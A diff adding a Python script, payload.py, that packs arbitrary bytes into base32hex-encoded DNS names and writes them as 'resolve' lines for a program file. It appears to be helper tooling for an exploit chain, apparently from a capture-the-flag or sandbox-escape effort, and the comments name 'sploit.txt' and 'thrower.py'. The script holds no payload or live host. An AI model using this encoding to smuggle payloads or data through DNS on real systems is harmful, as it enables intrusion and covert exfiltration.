@@ -0,0 +1,161 @@
+#!/usr/bin/env -S uv run -q
+# /// script
+# requires-python = ">=3.8"
+# dependencies = [
+#     "typer-slim==0.12.5",
+# ]
+# ///
+# Packs bytes into the names sploit.txt resolves, and back.  Each name
+# carries a chunk of the payload as base32hex ('=' padding written as 'z')
+# spread over LABELS labels of 'x' + 62 characters, short labels filled
+# out with 'x', then SUFFIX; thrower.py appends DNS_SUFFIX.  Chunks are
+# chunk_size() bytes (115 with 3 labels), a whole number of base32 blocks,
+# so only the last name of a payload is padded.  Input is read and encoded
+# a block at a time.
+#
+#   ./payload.py encode [payload|-] [--output program.txt] [--sleep ms]
+#   ./payload.py decode [program.txt|-] [--output payload|-]
+#   python testing/pack_payload.py | ./payload.py encode - > program.txt
+import os
+import re
+import sys
+from typing import Optional
+
+DNS_SUFFIX = os.environ.get('DNS_SUFFIX', '.example.com.') # as in thrower.py
+SUFFIX = 'net-x7yfcbnc'
+LABELS = 3
+LABEL = 62 # characters of payload per label, after the 'x'
+PREFIX, FILLER, PAD = 'x', 'x', 'z'
+
+MAX_NAME = 254 # characters of a name with its trailing dot
+BLOCK = 1 << 20 # bytes read and encoded at once
+
+ALPHABET = b'0123456789ABCDEFGHIJKLMNOPQRSTUV' # base32hex
+_SYMBOLS = bytes(ALPHABET[i] if i < 32 else 0 for i in range(256))
+# (lane mask, bits in, bits out): 40 bits as 2 x 20 in 32 bit halves, as
+# 4 x 10 in 16 bit quarters, as 8 x 5 in bytes
+_STEPS = ((0x00000000000FFFFF, 20, 32), (0x000003FF000003FF, 10, 16), (0x001F001F001F001F, 5, 8))
+_masks = {} # groups -> masks over that many 8 byte lanes
+
+def b32hex(data):
+    # base32hex with PAD for '=', worked on as one big int: each 5 byte
+    # group goes to its own 8 byte lane, then three shift-and-mask steps
+    # move every 5 bits of it into a byte of its own
+    n = len(data)
+    if n % 5:
+        data += bytes(5 - n % 5)
+    groups = len(data) // 5
+    lanes = bytearray(8 * groups)
+    for k in range(5):
+        lanes[3 + k::8] = data[k::5]
+    masks = _masks.get(groups)
+    if masks is None:
+        if len(_masks) > 8: _masks.clear()
+        masks = _masks[groups] = [int.from_bytes(m.to_bytes(8, 'big') * groups, 'big') for m, _, _ in _STEPS]
+    w = int.from_bytes(lanes, 'big')
+    for m, (_, bits, width) in zip(masks, _STEPS):
+        w = (w & m) | (((w >> bits) & m) << width)
+    chars = -(-n * 8 // 5)
+    return w.to_bytes(8 * groups, 'big')[:chars].translate(_SYMBOLS).decode('ascii') + PAD * (-chars % 8)
+
+def chunk_size(labels=LABELS):
+    # payload bytes per name: what fits, rounded down to whole 5-byte blocks
+    return labels * LABEL * 5 // 8 // 5 * 5
+
+def _check(labels, suffix):
+    width = len(PREFIX) + LABEL
+    length = labels * (width + 1) + len(suffix) + len(DNS_SUFFIX)
+    if labels < 1 or length > MAX_NAME or width > 63:
+        raise ValueError(f"{labels} labels of {width} characters and {suffix!r}{DNS_SUFFIX!r} "
+                         f"make {length} character names; at most {MAX_NAME}")
+
+def encode(stream, labels=LABELS, suffix=SUFFIX):
+    # stream: binary file object -> names, one per chunk
+    _check(labels, suffix)
+    size = chunk_size(labels)
+    step = size * 8 // 5 # characters per name
+    width = labels * LABEL
+    tail = '.' + suffix
+    block = max(BLOCK // size, 1) * size
+    while True:
+        data = stream.read(block)
+        while data and len(data) < block: # a short read from a pipe
+            more = stream.read(block - len(data))
+            if not more: break
+            data += more
+        if not data:
+            return
+        text = b32hex(data)
+        for i in range(0, len(text), step):
+            piece = text[i:i + step]
+            if len(piece) < width:
+                piece += FILLER * (width - len(piece))
+            yield '.'.join([PREFIX + piece[j:j + LABEL] for j in range(0, width, LABEL)]) + tail
+        if len(data) < block:
+            return
+
+def decode_name(name, suffix=SUFFIX):
+    # -> the chunk a name from encode carries; DNS_SUFFIX may be on it
+    labels = name.rstrip('.').split('.')
+    end = labels.index(suffix)
+    text = ''.join([label[len(PREFIX):] for label in labels[:end]]).rstrip(FILLER + FILLER.upper())
+    text = text.rstrip(PAD + PAD.upper())
+    if not text:
+        return b''
+    size = len(text) * 5 // 8
+    return (int(text, 32) >> (len(text) * 5 - size * 8)).to_bytes(size, 'big')
+
+def decode(names, suffix=SUFFIX):
+    return b''.join([decode_name(name, suffix) for name in names])
+
+RESOLVE = re.compile(r'^\s*resolve\s+"([^"]*)"', re.M)
+
+def program_names(text, suffix=SUFFIX):
+    # the names the resolves of a program carry payload in
+    return [name for name in RESOLVE.findall(text) if suffix in name.rstrip('.').split('.')]
+
+def write_program(names, fobj, sleep=None):
+    # one resolve per name, with a sleep of `sleep` ms between them
+    between = f'\nsleep {sleep}\n' if sleep is not None else '\n'
+    first = True
+    for name in names:
+        if not first:
+            fobj.write(between)
+        fobj.write(f'resolve "{name}"')
+        first = False
+    if not first:
+        fobj.write('\n')
+
+def cli():
+    import typer
+    app = typer.Typer()
+
+    @app.command('encode')
+    def encode_(payload: str=typer.Argument('-'), output: str='-', sleep: Optional[int]=None,
+                labels: int=LABELS):
+        # each resolve costs 10 of the default 1000 compute, so a program
+        # holds at most ~100 names (~11 kB) under the default budget
+        source = sys.stdin.buffer if payload == '-' else open(payload, 'rb')
+        out = sys.stdout if output == '-' else open(output, 'w')
+        try:
+            write_program(encode(source, labels), out, sleep)
+        finally:
+            if source is not sys.stdin.buffer: source.close()
+            if out is not sys.stdout: out.close()
+
+    @app.command('decode')
+    def decode_(program: str=typer.Argument('-'), output: str='-'):
+        if program == '-':
+            text = sys.stdin.read()
+        else:
+            with open(program) as fobj: text = fobj.read()
+        data = decode(program_names(text))
+        if output == '-':
+            sys.stdout.buffer.write(data)
+        else:
+            with open(output, 'wb') as fobj: fobj.write(data)
+
+    app()
+
+if __name__ == '__main__':
+    cli()